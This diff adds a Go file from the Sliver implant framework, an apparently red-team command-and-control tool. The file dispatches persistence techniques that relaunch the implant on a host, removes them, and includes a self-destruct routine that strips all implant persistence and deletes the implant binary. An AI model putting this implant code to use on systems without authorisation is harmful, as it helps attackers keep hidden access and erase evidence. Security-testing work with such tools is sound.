@@ -0,0 +1,136 @@
+package persist
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+	"fmt"
+	"os"
+	"os/exec"
+	"runtime"
+	"strings"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	consts "github.com/bishopfox/sliver/sliver/constants"
+)
+
+// technique - A way of getting a command to run again, each OS registers
+// its own techniques by name
+type technique struct {
+	install func(name string, command string) (*sliverpb.PersistRecipe, error)
+	remove  func(recipe *sliverpb.PersistRecipe) error
+	// find - Installed persistence whose command contains executable
+	find func(executable string) []*sliverpb.PersistRecipe
+}
+
+// Install - Install persistence using the named technique, command defaults
+// to the implant's own executable. The returned recipe records what was
+// changed so it can be removed later.
+func Install(techniqueName string, name string, command string) (*sliverpb.PersistRecipe, error) {
+	tech, ok := techniques[techniqueName]
+	if !ok {
+		return nil, fmt.Errorf("Technique '%s' is not supported on %s", techniqueName, runtime.GOOS)
+	}
+	if name == "" {
+		return nil, fmt.Errorf("Persistence name is required")
+	}
+	if command == "" {
+		executable, err := os.Executable()
+		if err != nil {
+			return nil, err
+		}
+		command = executable
+	}
+	// {{if .Debug}}
+	log.Printf("Installing %s persistence %s for %s", techniqueName, name, command)
+	// {{end}}
+	recipe, err := tech.install(name, command)
+	if err != nil {
+		return nil, err
+	}
+	recipe.Technique = techniqueName
+	recipe.Name = name
+	recipe.Command = command
+	return recipe, nil
+}
+
+// Remove - Undo the changes recorded in recipe
+func Remove(recipe *sliverpb.PersistRecipe) error {
+	tech, ok := techniques[recipe.Technique]
+	if !ok {
+		return fmt.Errorf("Technique '%s' is not supported on %s", recipe.Technique, runtime.GOOS)
+	}
+	// {{if .Debug}}
+	log.Printf("Removing %s persistence %s", recipe.Technique, recipe.Name)
+	// {{end}}
+	return tech.remove(recipe)
+}
+
+// SelfDestruct - Remove any persistence that launches the implant and the
+// implant's executable, the caller should exit right after
+func SelfDestruct(reason string) *sliverpb.SelfDestruct {
+	report := &sliverpb.SelfDestruct{
+		Name:    consts.SliverName,
+		Reason:  reason,
+		Removed: []string{},
+		Errors:  []string{},
+	}
+	report.Hostname, _ = os.Hostname()
+	executable, err := os.Executable()
+	if err != nil {
+		report.Errors = append(report.Errors, err.Error())
+		return report
+	}
+	for name, tech := range techniques {
+		for _, recipe := range tech.find(executable) {
+			recipe.Technique = name
+			err := tech.remove(recipe)
+			if err != nil {
+				report.Errors = append(report.Errors, fmt.Sprintf("%s %s: %s", name, recipe.Name, err))
+				continue
+			}
+			report.Removed = append(report.Removed, fmt.Sprintf("%s %s (%s)", name, recipe.Name, recipe.Path))
+		}
+	}
+	// {{if .IsSharedLib}}
+	// The executable is our host process, leave it alone
+	// {{else}}
+	err = removeExecutable(executable)
+	if err != nil {
+		report.Errors = append(report.Errors, fmt.Sprintf("%s: %s", executable, err))
+	} else {
+		report.Removed = append(report.Removed, executable)
+	}
+	// {{end}}
+	// {{if .Debug}}
+	log.Printf("Self-destruct (%s) removed %v, errors %v", reason, report.Removed, report.Errors)
+	// {{end}}
+	return report
+}
+
+// run - Run cmd, including its output in the error if it fails
+func run(cmd *exec.Cmd) error {
+	output, err := cmd.CombinedOutput()
+	if err != nil {
+		return fmt.Errorf("%s %s (%s)", cmd.Path, err, strings.TrimSpace(string(output)))
+	}
+	return nil
+}